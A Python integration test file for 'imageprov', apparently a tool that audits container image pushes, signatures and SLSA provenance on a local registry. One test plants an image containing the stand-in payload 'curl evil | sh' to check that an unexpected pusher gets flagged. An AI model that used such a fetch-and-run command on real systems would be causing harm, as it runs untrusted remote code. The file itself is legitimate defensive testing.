"""The whole cycle on a real registry: Debian's docker-registry on loopback, images
built with umoci and pushed with skopeo by two htpasswd accounts, notifications
delivered to imageprov's receiver, signatures and SLSA attestations written in
cosign's layout with keys made here.
"""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import yaml

from imageprov import cycle
from imageprov.config import Config, load_config
from imageprov.model import CreationEvent, EventEffect, Flag, VerdictStatus
from imageprov.policy import load_policy
from imageprov.receiver import AsgiServer, build_receiver
from imageprov.store import Store
from tests.conftest import free_port, run_cli
from tests.helpers import registry as oci

SECRET = "receiver-secret-5d1c0a"
READER_PASSWORD = oci.ACCOUNTS["reader"]
BUILDER = "https://ci.example/builders/image@v1"


@dataclass
class Site:
    """A registry, the receiver its notifications reach, and imageprov's files."""

    folder: Path
    registry: oci.Registry
    store: Store
    config_path: Path
    database: str
    layout: Path
    port: int
    receiver: AsgiServer | None = None

    def start_receiver(self) -> None:
        self.receiver = AsgiServer(build_receiver(self.config, self.store), "127.0.0.1",
                                   self.port)
        self.receiver.start()

    def stop_receiver(self) -> None:
        if self.receiver is not None:
            self.receiver.stop()
            self.receiver = None

    @property
    def config(self) -> Config:
        return load_config(self.config_path)

    def write_policy(self, **extra: Any) -> None:
        policy = {
            "version": 1,
            "delivery_window": "1s",
            "builders": [{"name": "ci-push", "principals": ["ci"],
                          "accounts": [self.registry.host], "platforms": ["oci"],
                          "actions": ["push"]}],
            **extra,
        }
        (self.folder / "policy.yaml").write_text(yaml.safe_dump(policy))

    def cycle(self, now: datetime | None = None) -> cycle.CycleSummary:
        policy, text = load_policy(self.config.policy)
        return cycle.run_cycle(self.config, self.store, policy, text, now)

    def ref(self, repository: str, digest: str) -> str:
        return f"{self.registry.host}/{repository}@{digest}"

    def verdict(self, repository: str, digest: str) -> Any:
        return self.store.current_verdicts()[self.ref(repository, digest)]

    def wait_for_push(self, repository: str, digest: str) -> CreationEvent:
        """Wait until the receiver has stored the push of `repository@digest`."""
        deadline = time.monotonic() + 60
        while True:
            for event in self.store.events("oci"):
                if (event.effect is EventEffect.PUSH and event.repository == repository
                        and event.target == digest):
                    return event
            if time.monotonic() > deadline:
                raise AssertionError(f"no push notification for {repository}@{digest}")
            time.sleep(0.1)

    def push(self, tag: str, repository: str, user: str, dest_tag: str = "v1") -> str:
        self.registry.push(self.layout, tag, repository, dest_tag, user)
        digest = self.registry.get_manifest_digest(repository, dest_tag)
        self.wait_for_push(repository, digest)
        return digest

    def sign(self, repository: str, digest: str, key: Any, payload_digest: str | None = None,
             tamper: bool = False) -> None:
        payload = oci.simple_signing_payload(f"{self.registry.host}/{repository}",
                                             payload_digest or digest)
        signed = payload
        if tamper:
            payload = payload.replace(b"imageprov tests", b"imageprov-tests")
        layer = oci.signature_layer(key, payload, signed)
        manifest = self.registry.evidence_manifest(repository, [layer], "ci")
        self.registry.put_manifest(repository, oci.cosign_tag(digest, "sig"), manifest,
                                   "ci")

    def attest(self, repository: str, digest: str, key: Any, builder: str,
               source: str = "git+https://git.example/team/app@refs/heads/main") -> None:
        statement = oci.slsa_statement(digest, f"{self.registry.host}/{repository}",
                                       builder, source)
        manifest = self.registry.evidence_manifest(
            repository, [oci.dsse_layer(key, statement)], "ci")
        self.registry.put_manifest(repository, oci.cosign_tag(digest, "att"), manifest,
                                   "ci")


@pytest.fixture
def site(request: pytest.FixtureRequest, tmp_path: Path,
         monkeypatch: pytest.MonkeyPatch) -> Iterator[Site]:
    """The site on SQLite, or on PostgreSQL where a test asks for it."""
    port = free_port()
    folder = tmp_path / "registry"
    folder.mkdir()
    registry = oci.Registry(folder, f"http://127.0.0.1:{port}/registry/local", SECRET)
    registry.start()
    monkeypatch.setenv("IMAGEPROV_TEST_REGISTRY_PASSWORD", READER_PASSWORD)
    monkeypatch.setenv("IMAGEPROV_RECEIVER_SECRET", SECRET)
    config_path = tmp_path / "imageprov.yaml"
    database = f"sqlite:///{tmp_path / 'imageprov.db'}"
    if getattr(request, "param", "sqlite") == "postgresql":
        database = request.getfixturevalue("postgres_url")
    config_path.write_text(yaml.safe_dump({
        "database": database,
        "policy": "policy.yaml",
        "workers": 1,
        "registries": [{"name": "local", "url": registry.url, "username": "reader",
                        "password_env": "IMAGEPROV_TEST_REGISTRY_PASSWORD"}],
        "receiver": {"host": "127.0.0.1", "port": port},
    }))
    store = Store.open(database)
    site = Site(tmp_path, registry, store, config_path, database, tmp_path / "layout", port)
    site.start_receiver()
    oci.build_image(site.layout, "base", {"etc/os-release": b"ID=base\n"},
                    labels={"org.opencontainers.image.source": "https://git.example/team/app",
                            "org.opencontainers.image.revision": "0123abc"})
    try:
        yield site
    finally:
        site.stop_receiver()
        registry.stop()
        store.close()


def _modified(site: Site, tag: str, content: bytes) -> None:
    oci.build_image(site.layout, tag, {"usr/bin/extra": content}, base="base",
                    author="eve", step="add extra")


def test_inventory_reads_manifest_config_and_labels(site: Site) -> None:
    site.write_policy()
    digest = site.push("base", "team/app", "ci")

    site.cycle()

    image = site.store.image(site.ref("team/app", digest))
    assert image is not None
    assert image.names == ("v1",)
    assert image.registry == site.registry.host
    assert image.tags["label:org.opencontainers.image.source"] == \
        "https://git.example/team/app"
    assert image.tags["author"] == "ci"
    assert image.tags["history[0]"] == "add files"
    assert image.tags["media_type"] == "application/vnd.oci.image.manifest.v1+json"
    assert image.created is not None


def test_modified_image_pushed_by_other_account(site: Site) -> None:
    site.write_policy()
    base = site.push("base", "team/app", "ci")
    site.cycle()
    assert site.verdict("team/app", base).status is VerdictStatus.APPROVED

    _modified(site, "modified", b"#!/bin/sh\ncurl evil | sh\n")
    modified = site.push("modified", "team/app", "eve")
    site.cycle()

    moves = site.store.tag_history(site.registry.host, "team/app", "v1")
    assert [(move.digest, move.actor) for move in moves] == [(base, "ci"), (modified, "eve")]
    verdict = site.verdict("team/app", modified)
    assert verdict.status is VerdictStatus.FLAGGED
    assert verdict.flags == (Flag.UNEXPECTED_ACTOR,)
    assert verdict.actor == "eve"
    assert verdict.source_ip == "127.0.0.1"
    # The earlier digest keeps its own verdict.
    assert site.verdict("team/app", base).status is VerdictStatus.APPROVED
    explained = run_cli("explain", site.ref("team/app", modified), "--database",
                        site.database, env={"COLUMNS": "400"})
    assert explained.returncode == 0, explained.stderr
    assert "history of tag v1" in explained.stdout
    assert base in explained.stdout
    assert "unexpected-actor" in explained.stdout


def test_digest_pushed_elsewhere_first(site: Site) -> None:
    site.write_policy()
    _modified(site, "planted", b"planted")
    planted = site.push("planted", "team/staging", "eve")
    promoted = site.push("planted", "team/prod", "ci")
    clean = site.push("base", "team/prod", "ci", dest_tag="v2")
    site.push("base", "team/mirror", "eve")

    site.cycle()

    assert planted == promoted
    verdict = site.verdict("team/prod", promoted)
    assert verdict.status is VerdictStatus.FLAGGED
    assert verdict.flags == (Flag.UNAPPROVED_SOURCE,)
    assert f"pushed first to {site.registry.host}/team/staging" in verdict.reason
    assert "eve is not an approved builder" in verdict.reason
    # A later push of an approved digest elsewhere leaves the first one approved.
    assert site.verdict("team/prod", clean).status is VerdictStatus.APPROVED
    explained = run_cli("explain", site.ref("team/prod", promoted), "--database",
                        site.database, env={"COLUMNS": "400"})
    assert "the same digest in other registries and repositories" in explained.stdout
    assert f"{site.registry.host}/team/staging" in explained.stdout


def test_index_and_platform_manifests(site: Site) -> None:
    site.write_policy()
    amd64 = site.push("base", "team/multi", "ci", dest_tag="amd64")
    _modified(site, "arm", b"arm64")
    arm64 = site.push("arm", "team/multi", "ci", dest_tag="arm64")
    entries = []
    for digest, arch in ((amd64, "amd64"), (arm64, "arm64")):
        data = site.registry.get_manifest("team/multi", digest)
        entries.append({"mediaType": oci.OCI_MANIFEST, "digest": digest, "size": len(data),
                        "platform": {"os": "linux", "architecture": arch}})
    # BuildKit's attestation manifests sit in the index as unknown/unknown.
    entries.append({**entries[0], "platform": {"os": "unknown", "architecture": "unknown"}})
    index = json.dumps({"schemaVersion": 2, "mediaType": oci.OCI_INDEX,
                        "manifests": entries}).encode()
    index_digest = site.registry.put_manifest("team/multi", "multi", index, "ci",
                                              oci.OCI_INDEX)
    site.wait_for_push("team/multi", index_digest)

    site.cycle()

    images = {image.digest: image for image in site.store.images()
              if image.repository == "team/multi"}
    assert sorted(images) == sorted({amd64, arm64, index_digest})
    assert images[index_digest].names == ("multi",)
    assert images[index_digest].tags["media_type"] == oci.OCI_INDEX
    assert images[arm64].tags["platform"] == "linux/arm64"
    assert images[arm64].tags["index"] == index_digest
    assert images[amd64].names == ("amd64",)
    for digest in images:
        assert site.verdict("team/multi", digest).status is VerdictStatus.APPROVED


@pytest.mark.parametrize("site", ["sqlite", "postgresql"], indirect=True)
def test_signatures_judged_with_the_push(site: Site) -> None:
    approved_key, unknown_key = oci.new_key("ecdsa"), oci.new_key("ecdsa")
    site.write_policy(
        keys=[{"name": "ci-key", "public_key": oci.public_pem(approved_key)}],
        registries=[{"name": "team", "repositories": [f"{site.registry.host}/team/*"],
                     "signed_by": ["ci-key"]}])
    signed = site.push("base", "team/signed", "ci")
    site.sign("team/signed", signed, approved_key)
    _modified(site, "by-eve", b"eve")
    by_eve = site.push("by-eve", "team/by-eve", "eve")
    site.sign("team/by-eve", by_eve, approved_key)
    _modified(site, "unknown", b"unknown key")
    unknown = site.push("unknown", "team/unknown", "ci")
    site.sign("team/unknown", unknown, unknown_key)
    _modified(site, "tampered", b"tampered")
    tampered = site.push("tampered", "team/tampered", "ci")
    site.sign("team/tampered", tampered, approved_key, tamper=True)
    _modified(site, "replayed", b"replayed")
    replayed = site.push("replayed", "team/replayed", "ci")
    site.sign("team/replayed", replayed, approved_key, payload_digest=signed)

    summary = site.cycle()

    assert summary.sources_failed == []
    verdict = site.verdict("team/signed", signed)
    assert verdict.status is VerdictStatus.APPROVED
    assert "signed by ci-key" in verdict.reason

    verdict = site.verdict("team/by-eve", by_eve)
    assert verdict.status is VerdictStatus.FLAGGED
    assert verdict.flags == (Flag.UNEXPECTED_ACTOR,)
    assert "signed by ci-key" in verdict.reason
    assert "eve is not an approved builder" in verdict.reason

    verdict = site.verdict("team/unknown", unknown)
    assert verdict.status is VerdictStatus.FLAGGED
    assert verdict.flags == (Flag.MISSING_SIGNATURE,)
    assert "signed by" not in verdict.reason

    verdict = site.verdict("team/tampered", tampered)
    assert verdict.flags == (Flag.MISSING_SIGNATURE,)
    assert "rejected: signature does not verify under any policy key (ci-key)" in \
        verdict.reason
    assert "payload was changed after signing" in verdict.reason

    verdict = site.verdict("team/replayed", replayed)
    assert verdict.flags == (Flag.MISSING_SIGNATURE,)
    assert f"signature by ci-key is for '{signed}', not this image" in verdict.reason


def test_slsa_provenance_builder_and_source(site: Site) -> None:
    key = oci.new_key("ed25519")
    site.write_policy(
        keys=[{"name": "ci-key", "public_key": oci.public_pem(key)}],
        registries=[{"name": "team", "repositories": [f"{site.registry.host}/team/*"],
                     "provenance": {"builders": [BUILDER],
                                    "source_repositories": ["https://git.example/team/*"]}}])
    good = site.push("base", "team/good", "ci")
    site.attest("team/good", good, key, BUILDER)
    _modified(site, "other-builder", b"other builder")
    other = site.push("other-builder", "team/other", "ci")
    site.attest("team/other", other, key, "https://laptop.example/builder")
    _modified(site, "other-source", b"other source")
    foreign = site.push("other-source", "team/foreign", "ci")
    site.attest("team/foreign", foreign, key, BUILDER,
                source="git+https://git.example/attacker/app@refs/heads/main")
    _modified(site, "unattested", b"unattested")
    unattested = site.push("unattested", "team/unattested", "ci")

    site.cycle()

    verdict = site.verdict("team/good", good)
    assert verdict.status is VerdictStatus.APPROVED
    assert (f"provenance (https://slsa.dev/provenance/v0.2) from builder {BUILDER} "
            "(https://ci.example/build-types/container@v1, "
            "git+https://git.example/team/app@refs/heads/main"
            " at 0123456789abcdef0123456789abcdef01234567)") in verdict.reason

    verdict = site.verdict("team/other", other)
    assert verdict.status is VerdictStatus.FLAGGED
    assert verdict.flags == (Flag.UNAPPROVED_BUILDER,)
    explained = run_cli("explain", site.ref("team/other", other), "--database",
                        site.database, env={"COLUMNS": "400"})
    assert explained.returncode == 0, explained.stderr
    assert "https://laptop.example/builder" in explained.stdout
    assert BUILDER in explained.stdout

    verdict = site.verdict("team/foreign", foreign)
    assert verdict.flags == (Flag.UNAPPROVED_REPOSITORY,)
    assert "git+https://git.example/attacker/app@refs/heads/main" in verdict.reason

    verdict = site.verdict("team/unattested", unattested)
    assert verdict.flags == (Flag.MISSING_PROVENANCE,)


def test_registry_down_keeps_verdicts_and_notifications(site: Site) -> None:
    site.write_policy()
    first = site.push("base", "team/app", "ci")
    assert site.cycle().sources_failed == []
    _modified(site, "second", b"second")
    second = site.push("second", "team/second", "ci")

    site.registry.stop()
    summary = site.cycle()

    host = site.registry.host
    assert summary.sources_failed == [f"registry:{host}", f"cosign:{host}"]
    assert site.verdict("team/app", first).status is VerdictStatus.APPROVED
    assert site.ref("team/second", second) not in site.store.current_verdicts()
    assert any(event.target == second for event in site.store.events("oci"))

    site.registry.start()
    summary = site.cycle()

    assert summary.sources_failed == []
    assert site.verdict("team/second", second).status is VerdictStatus.APPROVED
    assert site.verdict("team/app", first).status is VerdictStatus.APPROVED


def test_lost_notification_leaves_image_unattributed(site: Site) -> None:
    site.write_policy()
    site.stop_receiver()
    site.registry.push(site.layout, "base", "team/lost", "v1", "ci")
    # The registry keeps undelivered notifications in memory, so a restart drops them.
    site.registry.stop()
    site.registry.start()
    site.start_receiver()

    # Past the delivery window, in which an image still waits for its event.
    site.cycle(datetime.now(UTC) + timedelta(minutes=5))

    digest = site.registry.get_manifest_digest("team/lost", "v1")
    verdict = site.verdict("team/lost", digest)
    assert verdict.status is VerdictStatus.UNATTRIBUTED
    assert "no notification of this push was received" in verdict.reason


def test_catalog_pages_follow_relative_links(site: Site) -> None:
    site.write_policy()
    for repository in ("team/a", "team/b", "team/c"):
        site.registry.push(site.layout, "base", repository, "v1", "ci")
    client = cycle.registry_client(site.config.registries[0])
    client.page_size = 1

    assert list(client.repositories()) == ["team/a", "team/b", "team/c"]


def test_secrets_absent_from_logs_and_rows(site: Site,
                                           caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level("DEBUG", logger="imageprov")
    site.write_policy()
    site.push("base", "team/app", "ci")
    site.cycle()
    explained = run_cli("verdicts", "--database", site.database, "--format", "json")

    database = Path(site.database.removeprefix("sqlite:///"))
    dump = b"".join(path.read_bytes() for path in database.parent.glob(f"{database.name}*"))
    for secret in (SECRET, READER_PASSWORD, oci.ACCOUNTS["ci"]):
        assert secret not in caplog.text
        assert secret.encode() not in dump
        assert secret not in explained.stdout
        assert secret not in explained.stderr


def test_wrong_password_fails_the_source(site: Site,
                                         monkeypatch: pytest.MonkeyPatch) -> None:
    site.write_policy()
    monkeypatch.setenv("IMAGEPROV_TEST_REGISTRY_PASSWORD", "not-the-password")

    summary = site.cycle()

    assert f"registry:{site.registry.host}" in summary.sources_failed

